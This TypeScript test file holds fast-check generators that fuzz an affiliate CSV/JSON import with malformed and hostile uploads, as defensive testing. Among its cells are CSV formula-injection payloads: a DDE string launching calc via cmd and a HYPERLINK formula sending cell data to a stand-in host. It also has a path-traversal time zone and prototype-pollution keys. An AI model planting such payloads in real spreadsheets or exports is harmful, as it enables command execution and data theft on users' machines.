import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { AFFILIATE_COLUMNS, type AffiliateColumn } from '../../src/dataset/affiliate.js';

/**
 * Generators of affiliate tables as ops really send them: spreadsheet exports with columns moved,
 * renamed or lost, BOMs, every line ending, quotes balanced and not, formula-like cells, huge
 * cells, binary bytes, duplicate ids. A table is a header and rows of cells; a writer turns it
 * into the bytes of an upload.
 */
export type Table = { header: string[]; rows: string[][] };

/**
 * The sample's national line and its first `centers` centers open 24/7 (so routes do not move with the clock),
 * backups inside the slice.
 */
export function sampleSlice(csv: string, centers: number): Table {
  const [header, ...rows] = parse(csv) as string[][];
  const col = (name: AffiliateColumn) => header!.indexOf(name);
  const national = rows.filter((r) => r[col('kind')] === 'national');
  const open = rows.filter((r) => r[col('kind')] !== 'national' && r[col('hours')] === '24/7').slice(0, centers);
  const ids = new Set([...national, ...open].map((r) => r[col('id')]));
  const kept = [...national, ...open].map((r) =>
    r.map((cell, i) => (i === col('backupId') && !ids.has(cell) ? '' : cell)),
  );
  return { header: header!, rows: kept };
}

/** Values a spreadsheet would run as a formula, with and without the apostrophe that escapes them. */
export const formulaCell = fc.constantFrom(
  '=HYPERLINK("http://x.example/?leak="&A1,"help")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '\t=1',
  '\r=1',
  '=',
  '+',
  '-',
  '@',
  '\'=HYPERLINK("http://x")',
  "'+1",
  "'-x",
  "'@SUM(1)",
  "''=1+1",
  "'''+x",
  "' =1",
  'a=1',
  ' =1',
);
const quotedCell = fc.constantFrom(
  'a"b',
  '"quoted"',
  '"unbalanced',
  'a""b',
  'he said "hi", ok',
  '"',
  '""',
  '"a"b"',
  'line\nbreak',
  'cr\rin',
  'tab\tin',
  ',',
  'a,b,c',
);
const hugeCell = fc.constantFrom(
  'x'.repeat(100_000),
  'é'.repeat(40_000),
  `=${'A1&'.repeat(20_000)}A1`,
  '9'.repeat(5_000),
);
const badPhone = fc.constantFrom(
  '555-not-a-number',
  '+44 20 7946 0958',
  '911',
  '0000000000',
  '1e10',
  '+1 800 555 0100 ext 5',
  '+1212555010',
  '(212) 555-0143 or (212) 555-0144',
  'tel:',
  '+-12125550100',
);
const badCoordinate = fc.constantFrom(
  '95',
  '-91',
  '181',
  '-181',
  'NaN',
  'Infinity',
  '1e400',
  '0x10',
  '40,7',
  '40.7.1',
  '--40',
  '١٢',
);
const badTimeZone = fc.constantFrom(
  'America/Gotham',
  '+05:00',
  '../../etc/passwd',
  'EST5EDTX',
  'america/new york',
  'Local',
  'GMT+25',
);
const badHours = fc.constantFrom(
  'Mo-Fr 25:00-26:00',
  'mo-fr 09:00-17:00',
  'Mo',
  '-',
  ';;',
  '24/8',
  'Mo-Fr 9-5',
  'Xx-Yy 09:00-17:00',
  'Mo-Fr 09:00-17:00-18:00',
  'always',
);
const prototypeWord = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasownproperty',
  'valueof',
  '__defineGetter__',
);
const unicodeCell = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.constantFrom('\u202eevil', '\ufeffid', 'Zoë Café — 24 h', '💜 help', '\u0000', 'a\u0007b', '\u2028', 'ＮＹ'),
);
const binaryCell = fc.string({ unit: 'binary', maxLength: 40 });

/** A cell value from any of the hostile families (or a plain one). */
export const hostileCell: fc.Arbitrary<string> = fc.oneof(
  formulaCell,
  quotedCell,
  hugeCell,
  badPhone,
  badCoordinate,
  badTimeZone,
  badHours,
  prototypeWord,
  unicodeCell,
  binaryCell,
  fc.constantFrom('', ' ', 'NY', 'national', 'affiliate', '24/7', '10001', '+12125550100', 'en es'),
);

/** Header names a spreadsheet or a person might produce. */
const columnName = fc.oneof(
  fc.constantFrom(...AFFILIATE_COLUMNS),
  fc.constantFrom(
    'Phone',
    ' phone',
    'phone ',
    'telephone',
    '',
    '"id"',
    '\ufeffid',
    '=cmd',
    'x'.repeat(1000),
    '__proto__',
    'constructor',
  ),
  unicodeCell,
);

export type Mutation =
  | { kind: 'setCell'; row: number; column: string; value: string }
  | { kind: 'dropColumn'; index: number }
  | { kind: 'renameColumn'; index: number; name: string }
  | { kind: 'duplicateColumn'; index: number }
  | { kind: 'addColumn'; name: string; value: string }
  | { kind: 'reorderColumns'; keys: number[] }
  | { kind: 'duplicateId'; from: number; to: number }
  | { kind: 'emptyRow'; at: number }
  | { kind: 'dropRow'; row: number }
  | { kind: 'shortRow'; row: number; cells: number }
  | { kind: 'extraCells'; row: number; cells: string[] };

const rowIndex = fc.nat({ max: 1000 });
const columnIndex = fc.nat({ max: 40 });

export const hostileMutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    arbitrary: fc.record({
      kind: fc.constant('setCell' as const),
      row: rowIndex,
      column: fc.constantFrom(...AFFILIATE_COLUMNS),
      value: hostileCell,
    }),
    weight: 6,
  },
  fc.record({ kind: fc.constant('dropColumn' as const), index: columnIndex }),
  fc.record({ kind: fc.constant('renameColumn' as const), index: columnIndex, name: columnName }),
  fc.record({ kind: fc.constant('duplicateColumn' as const), index: columnIndex }),
  fc.record({ kind: fc.constant('addColumn' as const), name: columnName, value: hostileCell }),
  fc.record({
    kind: fc.constant('reorderColumns' as const),
    keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }),
  }),
  { arbitrary: fc.record({ kind: fc.constant('duplicateId' as const), from: rowIndex, to: rowIndex }), weight: 2 },
  fc.record({ kind: fc.constant('emptyRow' as const), at: rowIndex }),
  fc.record({ kind: fc.constant('dropRow' as const), row: rowIndex }),
  fc.record({ kind: fc.constant('shortRow' as const), row: rowIndex, cells: fc.nat({ max: 14 }) }),
  fc.record({
    kind: fc.constant('extraCells' as const),
    row: rowIndex,
    cells: fc.array(hostileCell, { minLength: 1, maxLength: 3 }),
  }),
);

/** Text that keeps a table valid: names in any script, quotes, commas, apostrophes before formula characters. */
const benignName = fc.oneof(
  // Two apostrophes: valid as CSV (read as one) and as JSON (taken as they are), and either way stored starting
  // with an apostrophe.
  fc.constantFrom(
    'Centro de Crisis "La Esperanza" (fictional)',
    'Zoë Café, 24 h (fictional)',
    "''=1+1 (fictional)",
    "''@home (fictional)",
    "''-dash (fictional)",
    "'''+x (fictional)",
    "O'Brien House (fictional)",
    '💜 Help (fictional)',
  ),
  fc
    .string({ unit: fc.constantFrom('a', 'é', '漢', '"', ',', "'", ' ', '=', '+'), minLength: 1, maxLength: 12 })
    .map((s) => `x${s}`),
);

export const benignMutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('setCell' as const), row: rowIndex, column: fc.constant('name'), value: benignName }),
  fc.record({
    kind: fc.constant('reorderColumns' as const),
    keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }),
  }),
  fc.record({ kind: fc.constant('emptyRow' as const), at: rowIndex }),
);

export function applyMutations(table: Table, mutations: readonly Mutation[]): Table {
  let header = [...table.header];
  let rows = table.rows.map((r) => [...r]);
  const pick = <T>(list: T[], i: number) => list[i % Math.max(list.length, 1)];
  for (const m of mutations) {
    switch (m.kind) {
      case 'setCell': {
        const row = pick(rows, m.row);
        const at = header.indexOf(m.column);
        // A blank line stays blank: one cell written into it would make a row missing every other field.
        if (row && row.length > 0 && at >= 0) row[at] = m.value;
        break;
      }
      case 'dropColumn': {
        const at = m.index % header.length;
        header = header.filter((_, i) => i !== at);
        rows = rows.map((r) => r.filter((_, i) => i !== at));
        break;
      }
      case 'renameColumn':
        header[m.index % header.length] = m.name;
        break;
      case 'duplicateColumn': {
        const at = m.index % header.length;
        header = [...header, header[at]!];
        rows = rows.map((r) => [...r, r[at] ?? '']);
        break;
      }
      case 'addColumn':
        header = [...header, m.name];
        rows = rows.map((r) => [...r, m.value]);
        break;
      case 'reorderColumns': {
        const order = header.map((_, i) => i).sort((a, b) => (m.keys[a] ?? 0) - (m.keys[b] ?? 0) || a - b);
        header = order.map((i) => header[i]!);
        rows = rows.map((r) => order.map((i) => r[i] ?? ''));
        break;
      }
      case 'duplicateId': {
        const id = header.indexOf('id');
        const from = pick(rows, m.from);
        const to = pick(rows, m.to);
        if (id >= 0 && from && to && from !== to) to[id] = from[id] ?? '';
        break;
      }
      case 'emptyRow':
        rows.splice(m.at % (rows.length + 1), 0, []);
        break;
      case 'dropRow':
        rows.splice(m.row % Math.max(rows.length, 1), 1);
        break;
      case 'shortRow': {
        const row = pick(rows, m.row);
        if (row) row.length = Math.min(row.length, m.cells);
        break;
      }
      case 'extraCells':
        pick(rows, m.row)?.push(...m.cells);
        break;
    }
  }
  return { header, rows };
}

export type Writer = {
  bom: boolean;
  eol: '\n' | '\r\n' | '\r' | 'mixed';
  quoting: 'csv' | 'all' | 'naive';
  trailingEol: boolean;
};

export const anyWriter: fc.Arbitrary<Writer> = fc.record({
  bom: fc.boolean(),
  eol: fc.constantFrom('\n' as const, '\r\n' as const, '\r' as const, 'mixed' as const),
  quoting: fc.constantFrom('csv' as const, 'all' as const, 'naive' as const),
  trailingEol: fc.boolean(),
});

/** A well-formed file as a spreadsheet saves it: proper quoting, one line ending. */
export const wellFormedWriter: fc.Arbitrary<Writer> = fc.record({
  bom: fc.boolean(),
  eol: fc.constantFrom('\n' as const, '\r\n' as const),
  quoting: fc.constantFrom('csv' as const, 'all' as const),
  trailingEol: fc.boolean(),
});

/** The upload's text; `naive` joins cells with commas and no quoting at all, as a careless script would. */
export function writeTable(table: Table, writer: Writer): string {
  const records = [table.header, ...table.rows];
  const lines =
    writer.quoting === 'naive'
      ? records.map((r) => r.join(','))
      : records.map((r) => stringify([r], { quoted: writer.quoting === 'all' }).replace(/\n$/, ''));
  const eols = ['\n', '\r\n', '\r'];
  const body = lines
    .map(
      (line, i) =>
        line +
        (i === lines.length - 1 && !writer.trailingEol ? '' : writer.eol === 'mixed' ? eols[i % 3]! : writer.eol),
    )
    .join('');
  return (writer.bom ? '\ufeff' : '') + body;
}

/** The table as a JSON upload: one object per row, blank rows left out. */
export const asJson = (table: Table): string =>
  JSON.stringify(
    table.rows
      .filter((r) => r.some((cell) => cell.trim() !== ''))
      .map((r) => Object.fromEntries(table.header.map((c, i) => [c, r[i] ?? '']))),
  );

/** A cell a spreadsheet would run: a formula start that is not a plain number. */
export const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
